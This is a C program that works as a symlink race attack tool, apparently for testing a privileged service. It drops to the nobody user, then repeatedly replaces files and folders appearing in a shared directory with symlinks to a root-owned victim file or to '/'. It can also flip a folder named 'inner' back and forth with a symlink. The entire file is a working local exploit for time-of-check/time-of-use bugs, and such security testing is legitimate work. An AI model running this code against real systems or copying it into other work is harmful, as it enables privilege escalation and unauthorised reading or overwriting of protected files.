/* A service's user who wants a file of root's: whatever appears in the folder becomes a link to it, or a hard link.
   With a third argument nothing does, but its folder "inner" is now itself, now a link to that. */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

int main(int argc, char **argv) {
  const char *folder = argv[1], *victim = argv[2];
  unsigned n = 0;
  char away[64];
  if (argc < 3 || chdir(folder)) return 1;
  if (setgid(65534) || setuid(65534)) return 2;
  puts("begun"); fflush(stdout);
  while (argc > 3) {
    if (rename("inner", "away")) return 4;
    symlink(argv[3], "inner");
    for (n = 0; n < 20000; n++) __asm__ volatile("");
    unlink("inner");
    rename("away", "inner");
    for (n = 0; n < 20000; n++) __asm__ volatile("");
  }
  for (;;) {
    DIR *dir = opendir(".");
    struct dirent *one;
    if (!dir) return 3;
    while ((one = readdir(dir))) {
      if (!strcmp(one->d_name, ".") || !strcmp(one->d_name, "..") || !strncmp(one->d_name, "away", 4)) continue;
      struct stat is;
      if (lstat(one->d_name, &is) || S_ISLNK(is.st_mode)) continue;
      snprintf(away, sizeof away, "away%u", n++);
      if (S_ISDIR(is.st_mode)) {
        if (!rename(one->d_name, away)) symlink("/", one->d_name);
      } else if (n % 2 || strcmp(one->d_name, "app.conf")) {
        if (!unlink(one->d_name)) symlink(victim, one->d_name);
      }
    }
    closedir(dir);
    if (n % 64 == 0) unlink("app.conf");
  }
}
